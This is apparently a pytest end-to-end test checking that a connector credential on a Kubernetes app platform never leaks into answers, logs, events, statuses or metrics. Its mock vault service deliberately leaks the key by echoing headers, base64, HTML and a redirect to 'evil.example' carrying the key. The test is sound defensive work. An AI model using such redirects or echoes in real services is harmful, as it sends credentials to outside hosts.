# SPDX-License-Identifier: Apache-2.0
"""A connector's credential on the whole system: the service gets it, and nothing else ever shows it."""

import base64
import hashlib
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote

import pytest

from demo.callers import Pod
from genapps.api.names import ANNOTATION_HOSTS, LABEL_CREDENTIAL_FOR
from tests.support.apps import RUN_NAMESPACE, SYSTEM_NAMESPACE, Manifest, app, ready
from tests.support.services import start_service
from tools.kubectl import Kubectl, KubectlError, until

CREDENTIALS = "genapps-credentials"
ASKING = """
    from genapps import app, tools, ToolError

    @app.post("/ask")
    async def ask(request):
        return [await outcome(*each.split("-")) for each in request.query["calls"].split(",")]

    async def outcome(tool, how):
        try:
            return {"told": await tools.call("vault", tool, how=how)}
        except ToolError as error:
            print("the call failed", repr(error), error)
            return {"code": error.code, "detail": str(error)}
"""
# It knows the credential by its hash, so that its own manifest does not show it.
VAULT = """
import base64, hashlib, json, time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Vault(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        how = self.path.rpartition("/")[2]
        self.rfile.read(int(self.headers.get("content-length", 0)))
        key = self.headers.get("X-Api-Key", "")
        known = hashlib.sha256(key.encode()).hexdigest() == "DIGEST"
        told = {"known": known}
        if how in ("echo", "refuse", "fail", "denied"):
            told = {"headers": dict(self.headers)}
        if how == "base64":
            told = {"key": base64.b64encode(key.encode()).decode()}
        if how == "cut":
            self.close_connection = True
            return
        body = ("<p>" + key if how == "page" else json.dumps(told)).encode()
        self.send_response({"refuse": 403, "denied": 401, "fail": 500, "away": 302}.get(how, 200))
        self.send_header("content-type", "text/html" if how == "page" else "application/json")
        self.send_header("content-length", str(len(body)))
        if how == "header":
            self.send_header("X-Echo", key)
        if how == "away":
            self.send_header("location", "https://evil.example/?key=" + key)
        self.end_headers()
        self.wfile.write(body)
    do_POST = do_GET
    def log_message(self, *_):
        pass
ThreadingHTTPServer(("", 8000), Vault).serve_forever()
"""
HOWS = {
    "fine": None,
    "header": None,
    "echo": "ResultInvalid",
    "base64": "ResultInvalid",
    "page": "ResultInvalid",
    "refuse": "ResultInvalid",
    "denied": "ResultInvalid",
    "fail": "ResultInvalid",
    "away": "UpstreamFailed",
    "cut": "UpstreamFailed",
}
"""What the service does, and the code that the app is told; None: it gets its result."""
FINE = {"told": {"known": True}}
KINDS = (
    "generatedapps", "appbudgets", "connectors", "apprecords", "ledgers", "events", "pods", "configmaps",
    "deployments", "networkpolicies", "endpointslices",
)  # fmt: skip


@dataclass(frozen=True)
class Asked:
    """A ready app whose connector has a credential, the canary."""

    kubectl: Kubectl
    caller: Pod
    app: Manifest
    canary: str

    def ask(self, *calls: str) -> str:
        """The outcomes of calls, each of a tool and of what the service is to do."""
        url = f"{self.app['status']['url']}/ask?calls={','.join(calls)}"
        return self.caller.request("POST", url, {}, None).body

    def seen_in(self, text: str) -> list[str]:
        """In which forms it is there."""
        forms = {
            "as it is": self.canary,
            "for a URL": quote(self.canary, safe=""),
            "for JSON": self.canary.replace("/", "\\/"),
            "in base64": base64.b64encode(self.canary.encode()).decode().rstrip("="),
            "its part that is never escaped": self.canary.partition("/")[0],
        }
        return [name for name, form in forms.items() if form in text]


@pytest.fixture
def asked(installed: Kubectl, tenant: str, caller: Pod) -> Iterator[Asked]:
    canary = f"canary{uuid.uuid4().hex}/+q&7"
    start_service(installed, tenant, "vault", VAULT.replace("DIGEST", hashlib.sha256(canary.encode()).hexdigest()))
    schema = {
        "type": "object",
        "required": ["how"],
        "properties": {"how": {"type": "string", "pattern": "^[a-z0-9]+$"}},
    }
    tools = [
        {"name": "ask", "method": "GET", "path": "/{how}", "effect": "Read", "input": schema},
        {"name": "change", "method": "POST", "path": "/{how}", "effect": "Write", "input": schema},
    ]
    connector = {
        "type": "HTTP",
        "endpoint": {"service": {"namespace": tenant, "name": "vault", "port": 80}},
        "namespaces": [tenant],
        "credential": {"secretName": "vault", "key": "token", "as": {"header": "X-Api-Key"}},
        "tools": tools,
    }
    secret = {
        "apiVersion": "v1",
        "kind": "Secret",
        "metadata": {
            "name": "vault",
            "namespace": CREDENTIALS,
            "labels": {LABEL_CREDENTIAL_FOR: "vault"},
            "annotations": {ANNOTATION_HOSTS: f"vault.{tenant}.svc"},
        },
        "stringData": {"token": canary},
    }
    installed.apply(
        secret,
        {"apiVersion": "genapps.dev/v1alpha1", "kind": "Connector", "metadata": {"name": "vault"}, "spec": connector},
    )
    found = ready(installed, app("asking", tenant, ASKING, envelope={"connectors": ["vault"]}))
    asked = Asked(installed, caller, found, canary)
    until(lambda: json.loads(asked.ask("ask-fine")) == [FINE], 60, "the way to the vault")
    yield asked
    installed("delete", "connector", "vault")
    installed("delete", "secret", "vault", "-n", CREDENTIALS)


def test_a_credential_is_in_no_answer_log_event_status_or_metric(installed: Kubectl, asked: Asked) -> None:
    hows = list(HOWS)
    for pair in zip(hows[::2], hows[1::2], strict=True):
        # Failures alone would open the breaker, and then nothing is asked.
        told = asked.ask(*(f"ask-{how}" for how in pair), *["ask-fine", "change-fine"] * len(pair))
        assert asked.seen_in(told) == []
        first, second, *others = json.loads(told)
        assert [first.get("code"), second.get("code")] == [HOWS[how] for how in pair], told
        assert others == [FINE] * 4
    for where, text in _everything(installed).items():
        assert asked.seen_in(text) == [], where


def _everything(kubectl: Kubectl) -> dict[str, str]:
    """All that is written or served by the platform, by where it was found."""
    found = {kind: kubectl("get", kind, "--all-namespaces", "-o", "json", timeout=60) for kind in KINDS}
    logs = metrics = 0
    for namespace in (SYSTEM_NAMESPACE, RUN_NAMESPACE):
        for pod in kubectl.items("pods", "-n", namespace):
            name = pod["metadata"]["name"]
            try:
                found[f"log of {name}"] = kubectl("logs", "-n", namespace, name, "--all-containers", "--tail=-1")
            except KubectlError as error:
                if "NotFound" not in str(error):
                    raise
                continue  # an app of another test has gone meanwhile
            logs += "call_ended" in found[f"log of {name}"]
            for port in _ports(pod):
                try:
                    page = kubectl("get", "--raw", f"/api/v1/namespaces/{namespace}/pods/{name}:{port}/proxy/metrics")
                except KubectlError:
                    continue  # it is no port of metrics
                found[f"metrics of {name}"] = page
                metrics += "genapps_gateway_calls_total" in page
    assert logs, "the search reads what gateways write of calls"
    assert metrics, "and what they count"
    return found


def _ports(pod: Manifest) -> list[int]:
    containers = pod["spec"]["containers"]
    return [port["containerPort"] for container in containers for port in container.get("ports") or ()]
